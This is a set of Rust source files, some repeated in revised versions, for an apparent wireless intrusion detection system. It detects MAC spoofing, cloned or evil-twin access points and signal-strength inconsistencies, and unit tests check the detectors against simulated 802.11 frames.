        let (mut a, mut b) = (100u16, 3000u16);
        for i in 0..40u64 {
            let seq = if i % 2 == 0 {
                a += 1;
                a
            } else {
                b += 1;
                b
            };
            d.on_event(&frame(i * 50, seq % 4096, 1), &mut out);
        }
        assert!(out.iter().any(|a| a.kind == AlertKind::SequenceAnomaly));
    }

    #[test]
    fn channel_divergence_is_immediate_and_strong() {
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        d.on_event(&frame(0, 1, 1), &mut out);
        d.on_event(&frame(10, 2, 6), &mut out);
        let alert = out
            .iter()
            .find(|a| a.kind == AlertKind::ChannelDivergence)
            .expect("divergence alert");
        assert!(alert.weight > 0.8);
        assert_eq!(alert.subject, MacAddr::local(1));
    }

    #[test]
    fn roaming_client_does_not_diverge() {
        // ta != bssid: a station moving from its old AP's channel to a
        // new one. Roaming is legitimate — no divergence alert.
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        let sta = MacAddr::local(50);
        let mk = |ms: u64, seq: u16, channel: u8, bssid: MacAddr| {
            SensorEvent::Dot11(Dot11Event {
                sensor: SensorId(0),
                at: SimTime::from_millis(ms),
                channel,
                rssi_dbm: -40.0,
                ta: sta,
                ra: bssid,
                bssid,
                seq,
                retry: false,
                kind: Dot11Kind::Data { protected: false },
            })
        };
        d.on_event(&mk(0, 1, 1, MacAddr::local(1)), &mut out);
        d.on_event(&mk(500, 2, 6, MacAddr::local(9)), &mut out);
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn clean_counter_stays_silent() {
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        for i in 0..300u64 {
            d.on_event(&frame(i * 10, (i % 4096) as u16, 1), &mut out);
        }
        assert!(out.is_empty(), "{out:?}");
        assert_eq!(d.observed(), 300);
    }

    #[test]
    fn state_stays_bounded_under_randomized_sources() {
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        let cap = TA_GROUPS * TA_WAYS;
        for i in 0..200_000u64 {
            let mut e = frame(i / 100, (i % 4096) as u16, 1);
            if let SensorEvent::Dot11(ev) = &mut e {
                ev.ta = MacAddr::local(i + 10);
                ev.bssid = ev.ta;
            }
            d.on_event(&e, &mut out);
        }
        assert!(d.tracked_sources() <= cap);
        assert!(d.evictions() > 0, "pressure must recycle slots");
        assert!(out.is_empty(), "single-frame sources are clean");
    }
}
