//! Sequence-control anomaly detection (Wright's MAC-spoof detector),
//! generalized to the streaming [`Detector`] interface.
//!
//! The counter-tracking state machine itself lives in
//! [`rogue_detect::seqmon::SeqMonitor`]; this adapter is how every
//! caller now reaches it — one event at a time from the unified sensor
//! stream, instead of post-hoc over a finished capture buffer.
//!
//! One refinement over the raw monitor: channel divergence is only
//! evidence against an *AP* transmitter (a BSS cannot move channels
//! without its stations noticing), while a client station hopping
//! channels is just roaming. The adapter therefore suppresses
//! divergence alerts for transmitters never seen acting as a BSSID.

use std::collections::HashSet;

use rogue_detect::seqmon::{SeqMonConfig, SeqMonitor};
use rogue_detect::AlarmKind as SeqAlarmKind;
use rogue_dot11::MacAddr;

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::{Dot11Kind, SensorEvent};

/// Streaming sequence-control monitor.
pub struct SeqControlDetector {
    monitor: SeqMonitor,
    emitted: usize,
    /// Transmitters seen with `ta == bssid` — AP-side radios, the only
    /// subjects for which channel divergence is incriminating.
    ap_tas: HashSet<MacAddr>,
}

impl SeqControlDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: SeqMonConfig) -> SeqControlDetector {
        SeqControlDetector {
            monitor: SeqMonitor::new(cfg),
            emitted: 0,
            ap_tas: HashSet::new(),
        }
    }

    /// Frames observed so far.
    pub fn observed(&self) -> u64 {
        self.monitor.observed
    }
}

impl Default for SeqControlDetector {
    fn default() -> Self {
        SeqControlDetector::new(SeqMonConfig::default())
    }
}

impl Detector for SeqControlDetector {
    fn name(&self) -> &'static str {
        "seq-control"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        if e.kind == Dot11Kind::Ack {
            return; // no sequence counter, no transmitter address
        }
        if e.ta == e.bssid {
            self.ap_tas.insert(e.ta);
        }
        self.monitor
            .observe_frame(e.at, e.ta, e.seq, e.channel, e.retry);
        // Surface any alarms the observation just raised.
        for alarm in &self.monitor.alarms[self.emitted..] {
            let (kind, weight) = match alarm.kind {
                SeqAlarmKind::SequenceAnomaly => (AlertKind::SequenceAnomaly, 0.7),
                SeqAlarmKind::ChannelDivergence if self.ap_tas.contains(&alarm.subject) => {
                    (AlertKind::ChannelDivergence, 0.9)
                }
                // A client roaming across channels is not divergence
                // evidence; SeqMonitor raises nothing else.
                _ => continue,
            };
            out.push(RawAlert {
                at: alarm.at,
                detector: "seq-control",
                subject: alarm.subject,
                kind,
                weight,
                detail: alarm.detail.clone(),
            });
        }
        self.emitted = self.monitor.alarms.len();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};
    use rogue_dot11::MacAddr;
    use rogue_sim::SimTime;

    fn frame(ms: u64, seq: u16, channel: u8) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel,
            rssi_dbm: -40.0,
            ta: MacAddr::local(1),
            ra: MacAddr::BROADCAST,
            bssid: MacAddr::local(1),
            seq,
            retry: false,
            kind: Dot11Kind::Mgmt,
        })
    }

    #[test]
    fn interleaved_counters_raise_sequence_alerts() {
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        let (mut a, mut b) = (100u16, 3000u16);
        for i in 0..40u64 {
            let seq = if i % 2 == 0 {
                a += 1;
                a
            } else {
                b += 1;
                b
            };
            d.on_event(&frame(i * 50, seq % 4096, 1), &mut out);
        }
        assert!(out.iter().any(|a| a.kind == AlertKind::SequenceAnomaly));
    }

    #[test]
    fn channel_divergence_is_immediate_and_strong() {
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        d.on_event(&frame(0, 1, 1), &mut out);
        d.on_event(&frame(10, 2, 6), &mut out);
        let alert = out
            .iter()
            .find(|a| a.kind == AlertKind::ChannelDivergence)
            .expect("divergence alert");
        assert!(alert.weight > 0.8);
        assert_eq!(alert.subject, MacAddr::local(1));
    }

    #[test]
    fn roaming_client_does_not_diverge() {
        // ta != bssid: a station moving from its old AP's channel to a
        // new one. Roaming is legitimate — no divergence alert.
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        let sta = MacAddr::local(50);
        let mk = |ms: u64, seq: u16, channel: u8, bssid: MacAddr| {
            SensorEvent::Dot11(Dot11Event {
                sensor: SensorId(0),
                at: SimTime::from_millis(ms),
                channel,
                rssi_dbm: -40.0,
                ta: sta,
                ra: bssid,
                bssid,
                seq,
                retry: false,
                kind: Dot11Kind::Data { protected: false },
            })
        };
        d.on_event(&mk(0, 1, 1, MacAddr::local(1)), &mut out);
        d.on_event(&mk(500, 2, 6, MacAddr::local(9)), &mut out);
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn clean_counter_stays_silent() {
        let mut d = SeqControlDetector::default();
        let mut out = Vec::new();
        for i in 0..300u64 {
            d.on_event(&frame(i * 10, (i % 4096) as u16, 1), &mut out);
        }
        assert!(out.is_empty(), "{out:?}");
        assert_eq!(d.observed(), 300);
    }
}
