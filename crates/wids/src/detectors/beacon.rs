//! Beacon analysis: SSID clones and BSSID spoofs.
//!
//! The streaming counterpart of `rogue_detect::audit::SiteAuditor` —
//! instead of digesting a finished sweep, it checks every beacon as it
//! arrives against the administrator's AP registry ("good record
//! keeping", §2.3 of the paper):
//!
//! * an **authorized BSSID** heard beaconing on a channel it is not
//!   registered for is the Figure-1 cloned-BSSID rogue,
//! * an **authorized SSID** advertised by an unregistered BSSID is an
//!   evil twin inviting stations to roam.

use std::collections::HashSet;

use rogue_dot11::MacAddr;

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::{Dot11Kind, SensorEvent};

/// Registry-driven tuning.
#[derive(Clone, Debug, Default)]
pub struct BeaconConfig {
    /// Authorized (BSSID, channel) pairs.
    pub authorized: Vec<(MacAddr, u8)>,
}

impl BeaconConfig {
    /// Registry with one authorized AP.
    pub fn single_ap(bssid: MacAddr, channel: u8) -> BeaconConfig {
        BeaconConfig {
            authorized: vec![(bssid, channel)],
        }
    }
}

/// The beacon detector.
pub struct BeaconDetector {
    cfg: BeaconConfig,
    /// SSIDs owned by registered APs (learned from beacons of authorized
    /// BSSIDs on their registered channels).
    owned_ssids: HashSet<String>,
    alerted_spoof: HashSet<(MacAddr, u8)>,
    alerted_clone: HashSet<(String, MacAddr)>,
    /// Beacons inspected.
    pub beacons_seen: u64,
}

impl BeaconDetector {
    /// Detector over the given registry.
    pub fn new(cfg: BeaconConfig) -> BeaconDetector {
        BeaconDetector {
            cfg,
            owned_ssids: HashSet::new(),
            alerted_spoof: HashSet::new(),
            alerted_clone: HashSet::new(),
            beacons_seen: 0,
        }
    }
}

impl Detector for BeaconDetector {
    fn name(&self) -> &'static str {
        "beacon-audit"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        let Dot11Kind::Beacon { ssid, .. } = &e.kind else {
            return;
        };
        self.beacons_seen += 1;
        let bssid_known = self.cfg.authorized.iter().any(|(b, _)| *b == e.bssid);
        let pair_known = self
            .cfg
            .authorized
            .iter()
            .any(|(b, ch)| *b == e.bssid && *ch == e.channel);
        if pair_known {
            // A registered AP where it belongs: learn the SSID it owns.
            self.owned_ssids.insert(ssid.clone());
            return;
        }
        if bssid_known {
            // Our BSSID, wrong channel: a clone on air.
            if self.alerted_spoof.insert((e.bssid, e.channel)) {
                out.push(RawAlert {
                    at: e.at,
                    detector: "beacon-audit",
                    subject: e.bssid,
                    kind: AlertKind::BssidSpoof,
                    weight: 0.9,
                    detail: format!(
                        "authorized BSSID beaconing on unregistered channel {} (ssid {ssid:?})",
                        e.channel
                    ),
                });
            }
            return;
        }
        // Unknown BSSID advertising a name we own: an evil twin.
        if self.owned_ssids.contains(ssid) && self.alerted_clone.insert((ssid.clone(), e.bssid)) {
            out.push(RawAlert {
                at: e.at,
                detector: "beacon-audit",
                subject: e.bssid,
                kind: AlertKind::SsidClone,
                weight: 0.6,
                detail: format!("unregistered BSSID advertising owned SSID {ssid:?}"),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};
    use rogue_sim::SimTime;

    fn beacon(ms: u64, bssid: MacAddr, ssid: &str, channel: u8) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel,
            rssi_dbm: -40.0,
            ta: bssid,
            ra: MacAddr::BROADCAST,
            bssid,
            seq: 0,
            retry: false,
            kind: Dot11Kind::Beacon {
                ssid: ssid.into(),
                claimed_channel: channel,
                capability: 0,
            },
        })
    }

    #[test]
    fn cloned_bssid_on_wrong_channel_alerts_once() {
        let corp = MacAddr::local(1);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        assert!(out.is_empty(), "registered AP is fine");
        d.on_event(&beacon(100, corp, "CORP", 6), &mut out);
        d.on_event(&beacon(200, corp, "CORP", 6), &mut out);
        assert_eq!(out.len(), 1, "one alert per (bssid, channel): {out:?}");
        assert_eq!(out[0].kind, AlertKind::BssidSpoof);
        assert_eq!(out[0].subject, corp);
    }

    #[test]
    fn evil_twin_ssid_alerts() {
        let corp = MacAddr::local(1);
        let twin = MacAddr::local(9);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        d.on_event(&beacon(50, twin, "CORP", 11), &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].kind, AlertKind::SsidClone);
        assert_eq!(out[0].subject, twin);
    }

    #[test]
    fn unrelated_networks_ignored() {
        let corp = MacAddr::local(1);
        let cafe = MacAddr::local(7);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        d.on_event(&beacon(10, cafe, "CAFE", 11), &mut out);
        assert!(out.is_empty(), "{out:?}");
    }
}
