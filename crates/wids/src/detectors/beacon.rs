//! Beacon analysis: SSID clones, BSSID spoofs, and churn.
//!
//! The streaming counterpart of `rogue_detect::audit::SiteAuditor` —
//! instead of digesting a finished sweep, it checks every beacon as it
//! arrives against the administrator's AP registry ("good record
//! keeping", §2.3 of the paper):
//!
//! * an **authorized BSSID** heard beaconing on a channel it is not
//!   registered for is the Figure-1 cloned-BSSID rogue,
//! * an **authorized SSID** advertised by an unregistered BSSID is an
//!   evil twin inviting stations to roam,
//! * **many distinct** unregistered BSSIDs advertising one owned SSID
//!   inside a short window is the MAC-randomizing twin: each individual
//!   clone claim is weak (any café can reuse a name), but a parade of
//!   fresh BSSIDs behind one owned name is near-certain evasion.
//!
//! Only broadcast beacons are audited — directed probe responses are the
//! probe-audit detector's business, and mixing them in would double-count
//! every advertisement.

use std::collections::HashSet;

use rogue_dot11::MacAddr;
use rogue_sim::SimDuration;

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::{Dot11Kind, SensorEvent};
use crate::sketch::{hash_mac, mix64, BoundedTable, WindowCounter};

const CLONE_GROUPS: usize = 4096;
const CLONE_WAYS: usize = 4;

/// Hash an SSID into the shared key-hash domain.
#[inline]
pub(crate) fn hash_ssid(ssid: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64; // FNV-1a offset basis
    for b in ssid.as_bytes() {
        h ^= *b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    mix64(h)
}

/// Registry-driven tuning.
#[derive(Clone, Debug)]
pub struct BeaconConfig {
    /// Authorized (BSSID, channel) pairs.
    pub authorized: Vec<(MacAddr, u8)>,
    /// Distinct unregistered BSSIDs advertising one owned SSID within
    /// [`BeaconConfig::churn_window`] needed for a churn alert.
    pub churn_threshold: u32,
    /// Sliding window for the churn count.
    pub churn_window: SimDuration,
}

impl Default for BeaconConfig {
    fn default() -> Self {
        BeaconConfig {
            authorized: Vec::new(),
            churn_threshold: 6,
            churn_window: SimDuration::from_secs(10),
        }
    }
}

impl BeaconConfig {
    /// Registry with one authorized AP.
    pub fn single_ap(bssid: MacAddr, channel: u8) -> BeaconConfig {
        BeaconConfig {
            authorized: vec![(bssid, channel)],
            ..BeaconConfig::default()
        }
    }
}

/// The beacon detector.
pub struct BeaconDetector {
    cfg: BeaconConfig,
    /// SSIDs owned by registered APs (learned from beacons of authorized
    /// BSSIDs on their registered channels). Bounded by the registry.
    owned_ssids: HashSet<String>,
    /// Once-only latches per (BSSID, channel) spoof. Keys are drawn from
    /// the registry, so the set stays registry-sized.
    alerted_spoof: HashSet<(MacAddr, u8)>,
    /// Once-only latches per (owned SSID, cloning BSSID) pair — bounded,
    /// since the cloning BSSID is attacker-chosen.
    alerted_clone: BoundedTable<(u64, MacAddr), ()>,
    /// Fresh clone pairs per owned SSID over the churn window.
    churn: WindowCounter,
    /// SSIDs already churn-alerted (bounded by owned SSID count).
    alerted_churn: HashSet<u64>,
    /// Beacons inspected.
    pub beacons_seen: u64,
}

impl BeaconDetector {
    /// Detector over the given registry.
    pub fn new(cfg: BeaconConfig) -> BeaconDetector {
        BeaconDetector {
            churn: WindowCounter::new(cfg.churn_window, 10, 512, 4),
            cfg,
            owned_ssids: HashSet::new(),
            alerted_spoof: HashSet::new(),
            alerted_clone: BoundedTable::new(CLONE_GROUPS, CLONE_WAYS),
            alerted_churn: HashSet::new(),
            beacons_seen: 0,
        }
    }
}

impl Detector for BeaconDetector {
    fn name(&self) -> &'static str {
        "beacon-audit"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        let Dot11Kind::Beacon {
            ssid, probe_resp, ..
        } = &e.kind
        else {
            return;
        };
        if *probe_resp {
            return; // directed advertisements belong to probe-audit
        }
        self.beacons_seen += 1;
        let bssid_known = self.cfg.authorized.iter().any(|(b, _)| *b == e.bssid);
        let pair_known = self
            .cfg
            .authorized
            .iter()
            .any(|(b, ch)| *b == e.bssid && *ch == e.channel);
        if pair_known {
            // A registered AP where it belongs: learn the SSID it owns.
            self.owned_ssids.insert(ssid.clone());
            return;
        }
        if bssid_known {
            // Our BSSID, wrong channel: a clone on air.
            if self.alerted_spoof.insert((e.bssid, e.channel)) {
                out.push(RawAlert {
                    at: e.at,
                    detector: "beacon-audit",
                    subject: e.bssid,
                    kind: AlertKind::BssidSpoof,
                    weight: 0.9,
                    detail: format!(
                        "authorized BSSID beaconing on unregistered channel {} (ssid {ssid:?})",
                        e.channel
                    ),
                });
            }
            return;
        }
        // Unknown BSSID advertising a name we own: an evil twin.
        if !self.owned_ssids.contains(ssid) {
            return;
        }
        let sh = hash_ssid(ssid);
        let pair = (sh, e.bssid);
        let ph = mix64(sh ^ hash_mac(&e.bssid.0));
        if self.alerted_clone.get_touch(e.at, ph, pair).is_some() {
            return; // this pair already reported
        }
        self.alerted_clone.entry(e.at, ph, pair, || ());
        out.push(RawAlert {
            at: e.at,
            detector: "beacon-audit",
            subject: e.bssid,
            kind: AlertKind::SsidClone,
            weight: 0.6,
            detail: format!("unregistered BSSID advertising owned SSID {ssid:?}"),
        });
        // A fresh pair also feeds the churn count for this SSID: one
        // rotating rogue looks like a stream of new weak clone claims.
        let fresh = self.churn.observe(e.at, sh);
        if fresh >= self.cfg.churn_threshold && self.alerted_churn.insert(sh) {
            out.push(RawAlert {
                at: e.at,
                detector: "beacon-audit",
                subject: e.bssid,
                kind: AlertKind::SsidChurn,
                weight: 0.95,
                detail: format!(
                    "{fresh} distinct unregistered BSSIDs advertising owned SSID {ssid:?} within {}",
                    self.cfg.churn_window
                ),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};
    use rogue_sim::SimTime;

    fn beacon(ms: u64, bssid: MacAddr, ssid: &str, channel: u8) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel,
            rssi_dbm: -40.0,
            ta: bssid,
            ra: MacAddr::BROADCAST,
            bssid,
            seq: 0,
            retry: false,
            kind: Dot11Kind::Beacon {
                ssid: ssid.into(),
                claimed_channel: channel,
                capability: 0,
                probe_resp: false,
            },
        })
    }

    #[test]
    fn cloned_bssid_on_wrong_channel_alerts_once() {
        let corp = MacAddr::local(1);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        assert!(out.is_empty(), "registered AP is fine");
        d.on_event(&beacon(100, corp, "CORP", 6), &mut out);
        d.on_event(&beacon(200, corp, "CORP", 6), &mut out);
        assert_eq!(out.len(), 1, "one alert per (bssid, channel): {out:?}");
        assert_eq!(out[0].kind, AlertKind::BssidSpoof);
        assert_eq!(out[0].subject, corp);
    }

    #[test]
    fn evil_twin_ssid_alerts() {
        let corp = MacAddr::local(1);
        let twin = MacAddr::local(9);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        d.on_event(&beacon(50, twin, "CORP", 11), &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].kind, AlertKind::SsidClone);
        assert_eq!(out[0].subject, twin);
    }

    #[test]
    fn unrelated_networks_ignored() {
        let corp = MacAddr::local(1);
        let cafe = MacAddr::local(7);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        d.on_event(&beacon(10, cafe, "CAFE", 11), &mut out);
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn probe_responses_are_not_audited_here() {
        let corp = MacAddr::local(1);
        let twin = MacAddr::local(9);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        let mut pr = beacon(50, twin, "CORP", 11);
        if let SensorEvent::Dot11(e) = &mut pr {
            if let Dot11Kind::Beacon { probe_resp, .. } = &mut e.kind {
                *probe_resp = true;
            }
        }
        d.on_event(&pr, &mut out);
        assert!(out.is_empty(), "{out:?}");
        assert_eq!(d.beacons_seen, 1, "probe responses are not beacons");
    }

    #[test]
    fn rotating_bssids_raise_churn() {
        let corp = MacAddr::local(1);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        // A rogue rotating its BSSID every 500 ms under the owned name.
        for i in 0..8u64 {
            d.on_event(
                &beacon(100 + i * 500, MacAddr::local(100 + i), "CORP", 11),
                &mut out,
            );
        }
        let churn: Vec<_> = out
            .iter()
            .filter(|a| a.kind == AlertKind::SsidChurn)
            .collect();
        assert_eq!(churn.len(), 1, "{out:?}");
        assert!(churn[0].weight > 0.9);
        // Each rotation also produced its individual weak clone claim.
        assert_eq!(
            out.iter()
                .filter(|a| a.kind == AlertKind::SsidClone)
                .count(),
            8
        );
    }

    #[test]
    fn a_single_stable_twin_does_not_churn() {
        let corp = MacAddr::local(1);
        let twin = MacAddr::local(9);
        let mut d = BeaconDetector::new(BeaconConfig::single_ap(corp, 1));
        let mut out = Vec::new();
        d.on_event(&beacon(0, corp, "CORP", 1), &mut out);
        for i in 0..100u64 {
            d.on_event(&beacon(50 + i * 100, twin, "CORP", 11), &mut out);
        }
        assert!(
            out.iter().all(|a| a.kind != AlertKind::SsidChurn),
            "{out:?}"
        );
    }
}
