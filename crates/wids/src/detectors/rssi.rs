//! Signal-strength consistency checking.
//!
//! Two radios sharing one MAC address rarely share one location: a
//! sensor hears them at very different signal strengths, and the
//! apparent RSSI behind the "single" transmitter flip-flops as their
//! transmissions interleave. Shadowing makes individual readings noisy
//! (the channel model draws per-link log-normal shadowing), so the
//! detector demands *repeated* implausible swings inside a short window
//! before alerting, and keeps its confidence weight modest — RSSI is
//! corroborating evidence, not a conviction.
//!
//! State lives in a [`BoundedTable`] keyed by (TA, sensor, channel) but
//! *grouped* by transmitter hash — the same group space the
//! sequence-control detector shards on, so one shard owns every reading
//! for a transmitter and sharded evaluation stays bit-identical to
//! serial. Like every per-source map in the suite, memory is fixed at
//! construction: a MAC-randomizing attacker recycles slots instead of
//! growing the detector.

use rogue_dot11::MacAddr;
use rogue_sim::{SimDuration, SimTime};

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::detectors::seq::TA_GROUPS;
use crate::event::{Dot11Kind, SensorEvent};
use crate::sketch::{hash_mac, BoundedTable, TableView};

/// Readings for distinct (sensor, channel) vantage points share a
/// transmitter's group; a handful of ways absorbs them.
const RSSI_WAYS: usize = 8;

/// Plausibility tuning.
#[derive(Clone, Debug)]
pub struct RssiSplitConfig {
    /// Swing between consecutive readings (same TA, same sensor, same
    /// channel) counted as implausible, in dB. Should sit well above the
    /// channel's shadowing sigma; ~3 sigma plus margin.
    pub swing_db: f64,
    /// Implausible swings within [`RssiSplitConfig::window`] needed to
    /// alert.
    pub threshold: u32,
    /// Sliding evidence window.
    pub window: SimDuration,
}

impl Default for RssiSplitConfig {
    fn default() -> Self {
        RssiSplitConfig {
            swing_db: 12.0,
            threshold: 4,
            window: SimDuration::from_secs(2),
        }
    }
}

/// One shard's disjoint view of the RSSI bounded table.
pub(crate) type RssiView<'a> = TableView<'a, (MacAddr, u16, u8), RssiEntry>;

/// Per-(TA, sensor, channel) reading state (one bounded slot).
pub(crate) struct RssiEntry {
    last_rssi: Option<f64>,
    /// Most recent implausible-swing times, capped at the alert
    /// threshold — the alert only ever needs the newest `threshold`.
    swings: Vec<SimTime>,
    alerted: bool,
}

impl RssiEntry {
    pub(crate) fn new() -> RssiEntry {
        RssiEntry {
            last_rssi: None,
            swings: Vec::new(),
            alerted: false,
        }
    }
}

/// The shared per-event core, identical on the serial and batch paths.
#[inline]
pub(crate) fn rssi_observe(
    cfg: &RssiSplitConfig,
    st: &mut RssiEntry,
    at: SimTime,
    ta: MacAddr,
    channel: u8,
    rssi_dbm: f64,
    mut emit: impl FnMut(RawAlert),
) {
    let Some(last) = st.last_rssi.replace(rssi_dbm) else {
        return; // first reading from this vantage point: baseline only
    };
    let swing = (rssi_dbm - last).abs();
    if swing < cfg.swing_db {
        return;
    }
    if st.swings.len() >= cfg.threshold as usize {
        st.swings.remove(0);
    }
    st.swings.push(at);
    let window_start = SimTime(at.as_nanos().saturating_sub(cfg.window.as_nanos()));
    st.swings.retain(|&t| t >= window_start);
    if st.swings.len() as u32 >= cfg.threshold && !st.alerted {
        st.alerted = true;
        emit(RawAlert {
            at,
            detector: "rssi-split",
            subject: ta,
            kind: AlertKind::RssiInconsistent,
            weight: 0.5,
            detail: format!(
                "{} swings > {:.0} dB within {} on channel {}",
                st.swings.len(),
                cfg.swing_db,
                cfg.window,
                channel
            ),
        });
    }
}

/// The signal-strength inconsistency detector.
pub struct RssiSplitDetector {
    cfg: RssiSplitConfig,
    // Keyed by (ta, sensor, channel): comparing readings across sensors
    // or channels would just measure geometry, not inconsistency.
    table: BoundedTable<(MacAddr, u16, u8), RssiEntry>,
}

impl RssiSplitDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: RssiSplitConfig) -> RssiSplitDetector {
        RssiSplitDetector {
            cfg,
            table: BoundedTable::new(TA_GROUPS, RSSI_WAYS),
        }
    }

    /// Vantage points currently tracked (bounded by table capacity).
    pub fn tracked_sources(&self) -> usize {
        self.table.tracked()
    }

    /// Fixed per-source state footprint, in bytes.
    pub fn state_bytes(&self) -> usize {
        self.table.bytes()
    }

    /// Entries recycled under source-cardinality pressure.
    pub fn evictions(&self) -> u64 {
        self.table.evictions
    }

    /// Config plus disjoint per-shard table views for batch evaluation.
    pub(crate) fn batch_parts(&mut self, shards: usize) -> (&RssiSplitConfig, Vec<RssiView<'_>>) {
        let RssiSplitDetector { cfg, table } = self;
        (cfg, table.shard_views(shards))
    }

    /// Fold per-shard tallies back after a batch.
    pub(crate) fn fold_batch(&mut self, evictions: u64) {
        self.table.add_evictions(evictions);
    }
}

impl Default for RssiSplitDetector {
    fn default() -> Self {
        RssiSplitDetector::new(RssiSplitConfig::default())
    }
}

impl Detector for RssiSplitDetector {
    fn name(&self) -> &'static str {
        "rssi-split"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        if e.kind == Dot11Kind::Ack {
            return; // no transmitter address to attribute the reading to
        }
        let h = hash_mac(&e.ta.0);
        let st = self
            .table
            .entry(e.at, h, (e.ta, e.sensor.0, e.channel), RssiEntry::new);
        rssi_observe(&self.cfg, st, e.at, e.ta, e.channel, e.rssi_dbm, |a| {
            out.push(a)
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};

    fn data(ms: u64, rssi: f64) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel: 1,
            rssi_dbm: rssi,
            ta: MacAddr::local(1),
            ra: MacAddr::local(2),
            bssid: MacAddr::local(1),
            seq: (ms % 4096) as u16,
            retry: false,
            kind: Dot11Kind::Data { protected: false },
        })
    }

    #[test]
    fn interleaved_positions_alert() {
        let mut d = RssiSplitDetector::default();
        let mut out = Vec::new();
        // Two radios ~25 dB apart taking turns under one address.
        for i in 0..12u64 {
            let rssi = if i % 2 == 0 { -40.0 } else { -65.0 };
            d.on_event(&data(i * 100, rssi), &mut out);
        }
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].kind, AlertKind::RssiInconsistent);
        assert_eq!(out[0].subject, MacAddr::local(1));
    }

    #[test]
    fn shadowing_noise_tolerated() {
        let mut d = RssiSplitDetector::default();
        let mut out = Vec::new();
        // +-4 dB wobble around -50: inside any plausible sigma.
        for i in 0..50u64 {
            let rssi = -50.0 + if i % 2 == 0 { 4.0 } else { -4.0 };
            d.on_event(&data(i * 50, rssi), &mut out);
        }
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn one_outlier_is_not_enough() {
        let mut d = RssiSplitDetector::default();
        let mut out = Vec::new();
        d.on_event(&data(0, -50.0), &mut out);
        d.on_event(&data(10, -80.0), &mut out); // single deep fade
        for i in 2..20u64 {
            d.on_event(&data(i * 10, -50.0), &mut out);
        }
        // The recovery swing counts too, but 2 < threshold 4.
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn state_stays_bounded_under_randomized_sources() {
        let mut d = RssiSplitDetector::default();
        let mut out = Vec::new();
        let before = d.state_bytes();
        for i in 0..200_000u64 {
            let mut e = data(i / 100, -50.0);
            if let SensorEvent::Dot11(ev) = &mut e {
                ev.ta = MacAddr::local(i + 10);
            }
            d.on_event(&e, &mut out);
        }
        assert!(d.tracked_sources() <= TA_GROUPS * RSSI_WAYS);
        assert_eq!(d.state_bytes(), before, "slot array must not grow");
        assert!(d.evictions() > 0, "pressure must recycle slots");
        assert!(out.is_empty());
    }
}
