//! Signal-strength consistency checking.
//!
//! Two radios sharing one MAC address rarely share one location: a
//! sensor hears them at very different signal strengths, and the
//! apparent RSSI behind the "single" transmitter flip-flops as their
//! transmissions interleave. Shadowing makes individual readings noisy
